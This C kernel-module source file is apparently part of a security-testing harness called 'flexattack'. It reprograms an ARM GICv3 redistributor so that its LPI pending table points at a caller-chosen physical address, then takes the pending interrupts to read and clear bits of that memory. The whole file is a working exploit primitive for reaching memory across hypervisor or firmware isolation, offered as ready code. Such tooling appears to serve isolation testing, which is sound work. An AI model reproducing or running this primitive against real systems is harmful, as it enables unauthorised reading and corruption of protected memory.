// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * The interrupt controller as a master of the bus: for its message interrupts (LPIs) a redistributor
 * reads a table of what is enabled and a table of what is pending, a bit for each, wherever it is told
 * that they lie; and it clears the bit of each interrupt that a CPU takes.
 *
 * `lpi-block`: 64 KiB of our own, zeroed, the same each time: "ipa". The states of its pages can be pending.
 * `lpi-arm TABLE ONLY`: has the first CPU's redistributor take TABLE, 64 KiB aligned, for what is pending;
 * enabled is interrupt ONLY, or all (0). "on" is whether it says that they are on.
 * `lpi-take FROM`: takes what is pending there, "taken" of them; "word0" … "word3" are their bits, of
 * the 32 bytes of TABLE from FROM on. Then they are off.
 */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/smp.h>
#include <asm/arch_gicv3.h>

#include "flexattack.h"

enum { DISTRIBUTOR = 0x08000000, REDISTRIBUTOR = 0x080a0000, FRAME = 0x10000, FRAMES = 2 * FRAME };
enum { CONTROL = 0x0000, CONFIGURATION = 0x0070, PENDING = 0x0078, ON = 1 };
enum { ENABLE = 0x0100, DISABLE = 0x0180, LINES = 288 / 32 };
enum { FIRST = 8192, END = 65536, ID_BITS = 15, NONE = 1023 };
/* Linux's interrupts have 0xa0. Ours come after them, and wait while a CPU lets only those through. */
enum { OURS = 0xc0, LINUX_ONLY = 0xb0, ALL = 0xf0 };
enum { BLOCK_ORDER = 4, WORDS = 4, MOST = 1 << 17 };

static struct page *block;
static u8 *configuration;
static void __iomem *distributor, *redistributor;

static struct {
	u64 table, only, from;
	u32 on, taken;
	u64 words[WORDS];
} order;

/* A block whose second page has its state among the bytes that can be pending. */
static bool suits(struct page *page, u64 ram)
{
	u64 state = ((page_to_phys(page) - ram) / PAGE_SIZE + 1) % FRAME;

	return state >= FIRST / 8 && state < END / 8;
}

static struct page *find_block(void)
{
	struct arm_smccc_1_2_regs in = { .a0 = FLEX_SMC_BASE + FLEX_CALL_LAYOUT }, out;
	struct page *page, *next;
	LIST_HEAD(others);

	arm_smccc_1_2_smc(&in, &out);
	while ((page = alloc_pages(GFP_KERNEL | __GFP_ZERO | __GFP_NOWARN, BLOCK_ORDER)) && !suits(page, out.a1))
		list_add(&page->lru, &others);
	while (!list_empty(&others)) {
		next = list_first_entry(&others, struct page, lru);
		list_del(&next->lru);
		__free_pages(next, BLOCK_ORDER);
	}
	return page;
}

static bool prepare(void)
{
	block = block ?: find_block();
	configuration = configuration ?: (u8 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, BLOCK_ORDER);
	distributor = distributor ?: ioremap(DISTRIBUTOR, FRAME);
	redistributor = redistributor ?: ioremap(REDISTRIBUTOR, FRAMES);
	return block && configuration && distributor && redistributor;
}

void lpi_block(struct attack *attack)
{
	attack->error = prepare() ? 0 : -ENOMEM;
	tell(attack, "ipa", block ? page_to_phys(block) : 0);
}

/* ---- on the first CPU, without interrupts ---- */

static void priorities(u32 let_through)
{
	write_sysreg_s(let_through, SYS_ICC_PMR_EL1);
	isb();
}

static void arm(void *unused)
{
	priorities(LINUX_ONLY);
	writel(0, redistributor + CONTROL);
	writeq(virt_to_phys(configuration) | ID_BITS, redistributor + CONFIGURATION);
	writeq(order.table, redistributor + PENDING);
	writel(ON, redistributor + CONTROL);
	order.on = readl(redistributor + CONTROL) & ON;
}

static void note(u32 interrupt)
{
	u64 bit = interrupt - order.from * 8;

	order.taken++;
	if (bit < WORDS * 64)
		order.words[bit / 64] |= 1ULL << bit % 64;
}

/* All others are kept waiting meanwhile. */
static void take(void *unused)
{
	u32 before[LINES], interrupt;

	for (int i = 0; i < LINES; i++) {
		void __iomem *at = (i ? distributor : redistributor + FRAME) + 4 * i;

		before[i] = readl(at + ENABLE);
		writel(before[i], at + DISABLE);
	}
	readl(redistributor + FRAME + ENABLE);
	priorities(ALL);
	while (order.taken < MOST && (interrupt = read_sysreg_s(SYS_ICC_IAR1_EL1)) != NONE) {
		dsb(sy);
		if (interrupt >= FIRST)
			note(interrupt);
		write_sysreg_s(interrupt, SYS_ICC_EOIR1_EL1);
		isb();
	}
	writel(0, redistributor + CONTROL);
	for (int i = 0; i < LINES; i++)
		writel(before[i], (i ? distributor : redistributor + FRAME) + 4 * i + ENABLE);
}

/* ---- */

static void on_the_first_cpu(struct attack *attack, smp_call_func_t act)
{
	attack->error = prepare() ? smp_call_function_single(0, act, NULL, true) : -ENOMEM;
}

void lpi_arm(struct attack *attack)
{
	order.table = word(attack, 1);
	order.only = word(attack, 2);
	if (prepare()) {
		memset(configuration, order.only ? 0 : OURS | ON, END - FIRST);
		if (order.only)
			configuration[clamp_t(u64, order.only, FIRST, END - 1) - FIRST] = OURS | ON;
	}
	on_the_first_cpu(attack, arm);
	tell(attack, "on", order.on);
}

void lpi_take(struct attack *attack)
{
	order.from = word(attack, 1);
	order.taken = 0;
	memset(order.words, 0, sizeof(order.words));
	on_the_first_cpu(attack, take);
	tell(attack, "taken", order.taken);
	for (int i = 0; i < WORDS; i++) {
		char name[] = "word0";

		name[4] += i;
		tell(attack, name, order.words[i]);
	}
}

void lpi_end(void)
{
	if (block)
		__free_pages(block, BLOCK_ORDER);
	free_pages((unsigned long)configuration, BLOCK_ORDER);
	if (distributor)
		iounmap(distributor);
	if (redistributor)
		iounmap(redistributor);
}
